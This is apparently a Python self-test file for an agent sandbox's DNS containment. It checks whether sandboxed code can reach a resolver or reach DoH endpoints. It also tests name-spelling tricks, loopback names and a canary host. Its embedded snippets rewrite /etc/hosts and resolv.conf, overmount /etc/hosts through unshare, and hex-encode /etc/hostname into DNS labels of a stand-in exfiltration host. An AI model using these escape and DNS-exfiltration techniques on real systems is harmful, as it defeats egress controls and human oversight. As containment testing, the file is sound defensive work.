"""DNS: the sandbox has no resolver; names resolve at the gate, and only for allowed hosts."""

from __future__ import annotations

import dataclasses
import socket

from agentvm.selftest.cases.network import judge, listening, prelude_run
from agentvm.selftest.framework import CANARY_HOST, SINK_NAME, Env, Verdict, case


@case("dns.resolver-absent", "dns",
      "Find a resolver: nameservers in /etc/resolv.conf with a route to them, or rewrite resolv.conf/hosts (also in a new mount ns)",
      weakened_by="host-etc+share-net")
def _(env: Env) -> Verdict:
    # No name is looked up here (a weakened run could send the query off the host): the
    # resolver configuration is read, and a route to each nameserver is looked up with a UDP
    # connect(), which transmits nothing.
    code = r"""
import os, socket, subprocess
ns = []
try:
    for line in open("/etc/resolv.conf"):
        parts = line.split()
        if len(parts) >= 2 and parts[0] == "nameserver":
            ns.append(parts[1])
except OSError as e:
    print("resolv.conf", e)
print("NAMESERVERS", ns)
for a in ns:
    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.connect((a, 53)); print("ROUTABLE", a, "via", s.getsockname()[0])
    except OSError as e:
        print("unroutable", a, e)
    s.close()
for f in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf", "/etc/gai.conf"):
    try:
        with open(f, "a") as fh:
            fh.write("\n127.0.0.9 allowed.selftest\n")
        print("WROTE", f)
    except OSError as e:
        print("write", f, e.strerror)
try:
    open("/tmp/hosts", "w").write("127.0.0.9 allowed.selftest\n")
    os.rename("/tmp/hosts", "/etc/hosts"); print("WROTE rename over /etc/hosts")
except OSError as e:
    print("rename", e.strerror)
r = subprocess.run(["unshare", "-Urm", "sh", "-c", "mount --bind /tmp/hosts /etc/hosts && echo WROTE overmount"],
                   capture_output=True, text=True)
print(r.stdout.strip() or ("unshare: " + r.stderr.strip()[-80:]))
"""
    o = env.sandbox(code, lang="python", egress=False)
    bad = [l for l in o.stdout.splitlines() if l.startswith(("ROUTABLE", "WROTE"))]
    if bad:
        return Verdict.escaped("a resolver path or a writable resolver config: " + "; ".join(bad)[:400])
    return Verdict.contained(" | ".join(l for l in o.stdout.splitlines() if l.strip())[:500])


@case("dns.udp53-host-loopback", "dns", "DNS queries (carrying data) to the host's 127.0.0.1:53 and to the sink over UDP",
      weakened_by="share-net")
def _(env: Env) -> Verdict:
    try:
        lst_cm = listening(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))
        lst = lst_cm.__enter__()
    except OSError:  # port 53 taken on this host: the sink's UDP port still stands in
        lst_cm = lst = None
    try:
        code = f"""
import socket, struct
def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
for port in (53, {env.sink.port}):
    try:
        s.sendto(query("6578666966.{CANARY_HOST}"), ("127.0.0.1", port)); print("sent", port)
        print("answer", s.recvfrom(512))
    except OSError as e:
        print("port", port, type(e).__name__, e)
"""
        o = env.sandbox(code, lang="python", egress=False)
    finally:
        if lst_cm is not None:
            lst_cm.__exit__(None, None, None)
    hits = [("udp/53", h) for h in (lst.hits if lst else [])] + [(k, d) for k, d in o.sink]
    if hits:
        return Verdict.escaped(f"a DNS query reached the host: {hits[0][0]} got {hits[0][1][:60]!r}")
    return Verdict.contained(f"no DNS query reached the host's loopback (listened on 53: {lst is not None}); "
                             f"sandbox: {o.out.strip()[-160:]!r}")


@case("dns.doh-endpoints", "dns",
      "DNS-over-HTTPS through the gate: public DoH endpoints (explicitly allowed too: doh:* deny must win) and a private one on the sink",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    from agentvm.gate.policy import normalize_host

    doh = ["dns.google", "cloudflare-dns.com", "dns.quad9.net", "mozilla.cloudflare-dns.com"]
    pol = env.policy(["/usr/bin/python3", "-c", "pass"], allow=tuple(f"{h}:443" for h in doh))
    # even a mistaken allow must stay on this host: every DoH name is mapped to loopback
    hosts = dict(pol.egress.hosts)
    hosts.update({normalize_host(h): "127.0.0.1" for h in doh})
    pol = dataclasses.replace(pol, egress=dataclasses.replace(pol.egress, hosts=tuple(sorted(hosts.items()))))
    body = r"""
import base64, struct
wire = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in CANARY_HOST.split("."):
    wire += bytes([len(label)]) + label.encode()
wire += b"\0" + struct.pack(">HH", 1, 1)
q = base64.urlsafe_b64encode(wire).rstrip(b"=").decode()
for h in __DOH__:
    inner = ("GET /dns-query?dns=%s HTTP/1.1\r\nHost: %s\r\nAccept: application/dns-message\r\n"
             "Connection: close\r\n\r\n" % (q, h)).encode()
    hd, r = tunnel(h, 443, h, inner)
    note("doh-connect " + h, hd)
    note("doh-plain " + h, send(get(h, 80, "/resolve?name=" + CANARY_HOST)))
# a private DoH resolver on the sink's name
note("doh-private", send(get(SINK_NAME, P, "/dns-query?dns=" + q, b"Accept: application/dns-message\r\n")))
""".replace("__DOH__", repr(doh))
    from agentvm.selftest.cases.network import PRELUDE

    pol = dataclasses.replace(pol, command=("/usr/bin/python3", "-c", PRELUDE + body),
                              env=tuple(sorted({**dict(pol.env), "SP": str(env.sink.port)}.items())))
    o = env.run_policy(pol)
    v = judge(o, "DoH", allowed_hosts={"allowed.selftest", "api.selftest", "api.github.com"})
    if v.status == "contained":
        public = [l for l in o.egress if str(l.get("host")) in doh and l.get("phase") == "connect"]
        wrong = [l for l in public if not str(l.get("rule", "")).startswith("doh:")]
        if wrong or len(public) < len(doh):
            return Verdict.error(f"public DoH CONNECTs not denied by a doh:* rule: {[(l.get('host'), l.get('rule')) for l in wrong]}"
                                 f" ({len(public)} of {len(doh)} logged)")
        return Verdict.contained(v.evidence.replace("DoH:", f"DoH: {len(public)} public endpoints denied by doh:* despite an allow rule;", 1))
    return v


@case("dns.sink-name-via-proxy", "dns", "The sink's DNS name through the proxy (curl, requests, urllib, node fetch)",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    p = env.sink.port
    code = f"""
curl -s -m 3 http://{SINK_NAME}:{p}/curl; echo " curl rc=$?"
curl -s -m 3 https://{SINK_NAME}:{p}/curl-tls; echo " curl-tls rc=$?"
/usr/bin/python3 -c 'import requests; print(requests.get("http://{SINK_NAME}:{p}/requests", timeout=3).text[:80])' 2>&1 | tail -1
/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("http://{SINK_NAME}:{p}/urllib", timeout=3).read()[:80])' 2>&1 | tail -1
node -e 'fetch("http://{SINK_NAME}:{p}/node").then(r => r.text()).then(t => console.log("node", t.slice(0, 80)), e => console.log("node", String(e.cause || e)))' 2>&1 | tail -1
"""
    o = env.sandbox(code)
    return judge(o, "the sink's name through the proxy")


@case("dns.canary-name-connect", "dns", "CONNECT to the canary exfiltration name, then TLS with a matching SNI",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    body = r"""
h, r = tunnel(CANARY_HOST, P, CANARY_HOST, b"GET /exfil HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n" % (CANARY_HOST.encode(), P))
note("connect", h); note("inner", r)
h, r = tunnel(CANARY_HOST, P, False, b"GET /exfil-plain HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n" % (CANARY_HOST.encode(), P))
note("connect-plain", h); note("inner-plain", r)
"""
    return judge(prelude_run(env, body), "CONNECT " + CANARY_HOST)


@case("dns.name-variants", "dns", "Spellings of the sink's name: case, trailing dot, both, on plain HTTP and CONNECT",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    body = r"""
for n in ("CANARY.SELFTEST", "canary.selftest.", "Canary.Selftest.", "CaNaRy-ExFiL.sElFtEsT"):
    note("plain " + n, send(get(n, P, "/variant")))
    note("connect " + n, connect(n, P)[1])
"""
    return judge(prelude_run(env, body), "name variants")


@case("dns.exfil-labels", "dns",
      "Data in DNS labels (<hex>.canary-exfil.selftest): the gate must not pass a denied name to its resolver",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    body = r"""
data = open("/etc/hostname").read().strip().encode().hex() or "00"
for i in range(3):
    n = "%s-%d.%s" % (data[:40], i, CANARY_HOST)
    note("plain " + n, send(get(n, P, "/")))
    note("connect " + n, connect(n, 443)[1])
"""
    return judge(prelude_run(env, body), "data-carrying names")


@case("dns.localhost-names", "dns",
      "Names that resolve to loopback on the host (localhost, localhost.localdomain, *.localhost, ip6-localhost) through the gate",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    body = r"""
for n in ("localhost", "localhost.localdomain", "sink.localhost", "ip6-localhost", "127.0.0.1.selftest"):
    note("plain " + n, send(get(n, P, "/loopback-name")))
    note("connect " + n, connect(n, P)[1])
# the reference: the sink's loopback address spelled plainly
note("plain 127.0.0.1", send(get("127.0.0.1", P, "/loopback-ip")))
"""
    return judge(prelude_run(env, body), "loopback names")
